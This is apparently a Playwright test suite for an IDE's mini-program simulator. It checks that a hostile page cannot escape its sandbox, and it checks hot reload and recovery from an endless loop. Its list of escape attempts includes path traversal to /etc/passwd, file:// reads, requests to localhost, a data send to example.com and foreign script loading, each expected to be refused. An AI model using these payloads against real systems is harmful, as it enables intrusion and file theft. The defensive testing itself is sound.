import { expect, type Page } from '@playwright/test';
import { pageOf } from './running-ide.ts';

/** The IDE in one of its shells, with the suite's program open. One suite for all of them. */
export interface Shell {
  view: Page;
  /** Writes a file of the program, as an editor does. */
  write(file: string, text: string): Promise<void>;
}

/**
 * What a hostile program may try once it has found the real window of its frame. Each answers 'refused' or says
 * what it got. `real` is that window, `port` that of the host, `ask` wx.request as a promise.
 */
export const tries: Record<string, string> = {
  'read the IDE document': 'return real.parent.document.title',
  'read the IDE address': 'return real.top.location.href',
  'read the IDE storage': 'return real.parent.localStorage.length',
  'lead the IDE elsewhere': 'real.top.location = "http://program.localhost/"; return "navigated"',
  'call a function of the IDE': 'return real.parent.eval("1")',
  'reach into the IDE through the frame element': 'return real.frameElement.ownerDocument.title',
  'fetch the IDE page': 'return (await real.fetch(`http://ide.localhost:${port}/`)).status',
  'fetch the host by address': 'return (await real.fetch(`http://127.0.0.1:${port}/`)).status',
  'open the IDE socket': 'return await open(`ws://ide.localhost:${port}/rpc`)',
  'open the sandbox without its token': 'return await open(`ws://${real.location.host}/sandbox`)',
  'open the sandbox with a guessed token':
    'return await open(`ws://${real.location.host}/sandbox?token=guess`)',
  'ask for the host by wx.request': 'return (await ask(`http://127.0.0.1:${port}/`)).statusCode',
  'ask for localhost by wx.request': 'return (await ask(`http://localhost:${port}/`)).statusCode',
  'ask for ide.localhost by wx.request': 'return (await ask(`http://ide.localhost:${port}/`)).statusCode',
  'ask for the host by IPv6': 'return (await ask(`http://[::ffff:127.0.0.1]:${port}/`)).statusCode',
  'ask for a file by wx.request': 'return (await ask("file:///etc/passwd")).statusCode',
  'read cookies of the IDE':
    'const c = real.document.cookie; if (c === "") throw new Error("none"); return c',
  'climb out of the assets with dots':
    'const r = await real.fetch("/program/../../../../etc/passwd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'climb out with encoded dots':
    'const r = await real.fetch("/program/%2e%2e%2f%2e%2e%2fetc%2fpasswd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'name an absolute path':
    'const r = await real.fetch("/program//etc/passwd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'read the project sources as assets':
    'const r = await real.fetch("/program/project.config.json"); if (!r.ok) throw 0; return "source"',
  'open a window': 'const w = real.open("about:blank"); if (!w) throw new Error("blocked"); return "opened"',
  'send data to a foreign server':
    'return (await real.fetch("http://example.com/", { mode: "no-cors" })).type',
  'load a foreign script':
    'await new Promise((done, fail) => { const s = real.document.createElement("script"); s.src = "http://127.0.0.1:9/x.js"; s.onload = done; s.onerror = fail; real.document.head.append(s) }); return "loaded"',
  'frame the IDE':
    'const f = real.document.createElement("iframe"); f.src = `http://ide.localhost:${port}/`; real.document.body.append(f); await new Promise((done) => { f.onload = done; real.setTimeout(done, 800) }); const seen = f.contentDocument; f.remove(); if (!seen || !seen.querySelector("#root, .frame")) throw new Error("empty"); return "framed"',
  'ask another noun of the sandbox':
    'const simulator = real.__tesseraSimulator; return await simulator.runtime.host.call("files.read", {})',
};

const hostile = `
const real = (function () { return this })() || (0, eval)('this')
const port = real.location.port
const ask = (url) => new Promise((success, fail) => wx.request({ url, success, fail: (e) => fail(new Error(e.errMsg)) }))
const open = (url) => new Promise((done, fail) => { const s = new real.WebSocket(url); s.onopen = () => done('open'); s.onerror = () => fail(new Error('refused')) })
const tries = { ${Object.entries(tries)
  .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
  .join(',\n')} }
Page({ data: { done: 'waiting' }, async onLoad() {
  const got = {}
  for (const [name, run] of Object.entries(tries)) {
    try { got[name] = 'got: ' + String(await run()) } catch { got[name] = 'refused' }
  }
  this.setData({ done: 'tried ' + JSON.stringify(got) })
} })`;

const template = (word: string): string =>
  `<view id="word">{{n}} ${word}</view><view id="more" bindtap="more" style="padding: 20px">more</view><view id="spin" bindtap="spin" style="padding: 20px">spin</view>`;

const script = (step: number): string => `Page({
  data: { n: 0 },
  more() { this.setData({ n: this.data.n + ${step} }) },
  spin() {
    for (;;);
  },
})`;

export const suiteFiles: Record<string, string> = {
  'app.json': JSON.stringify({ pages: ['pages/hostile/hostile', 'pages/calm/calm'] }),
  'app.js': 'App({})',
  'project.config.json': '{}',
  'pages/hostile/hostile.wxml': '<view id="tried">{{done}}</view>',
  'pages/hostile/hostile.js': hostile,
  'pages/calm/calm.wxml': template('one'),
  'pages/calm/calm.js': script(1),
  'pages/calm/calm.wxss': '',
};

/** Every try is refused, nothing pops up, and the IDE stays where it is. */
export async function refusesEveryTry({ view }: Shell): Promise<void> {
  // The address may come to name the folder: where it leads is what counts.
  const place = (): string => new URL(view.url()).origin + new URL(view.url()).pathname;
  const before = place();
  const popups: string[] = [];
  view.on('popup', (popup) => popups.push(popup.url()));
  const line = pageOf(view).locator('#tried');
  await expect(line).toContainText('tried', { timeout: 40_000 });
  const got = JSON.parse((await line.textContent())!.slice('tried '.length)) as Record<string, string>;
  expect(got).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, 'refused'])));
  expect(popups).toEqual([]);
  expect(place()).toBe(before);
}

async function openCalmPage({ view }: Shell): Promise<void> {
  const address = view.locator('.simulator-address');
  await address.fill('pages/calm/calm');
  await address.press('Enter');
  await expect(pageOf(view).locator('#word')).toHaveText('0 one');
}

/** Styles and templates change in place, a script keeps the data of its page. */
export async function reloadsInPlace(shell: Shell): Promise<void> {
  await openCalmPage(shell);
  const word = pageOf(shell.view).locator('#word');
  await pageOf(shell.view).locator('#more').click();
  await expect(word).toHaveText('1 one');
  await shell.write('pages/calm/calm.wxss', '#word { color: rgb(1, 2, 3) }');
  await expect(word).toHaveCSS('color', 'rgb(1, 2, 3)');
  await shell.write('pages/calm/calm.wxml', template('two'));
  await expect(word).toHaveText('1 two');
  await shell.write('pages/calm/calm.js', script(10));
  // The new script is there once a press counts by ten.
  await expect(async () => {
    await pageOf(shell.view).locator('#more').click();
    expect(Number.parseInt((await word.textContent())!, 10)).toBeGreaterThan(10);
  }).toPass({ timeout: 20_000 });
}

/** An endless loop shows where it is, and one click in the IDE starts anew. */
export async function survivesAnEndlessLoop({ view }: Shell): Promise<void> {
  const cover = view.locator('.simulator-cover');
  // The program never answers the click itself.
  await pageOf(view)
    .locator('#spin')
    .click({ noWaitAfter: true, timeout: 5000 })
    .catch(() => undefined);
  await expect(cover).toContainText('pages/calm/calm.js:5', { timeout: 30_000 });
  await cover.getByRole('button', { name: /^(Restart|重新启动)$/ }).click();
  await expect(pageOf(view).locator('#tried')).toBeVisible();
}
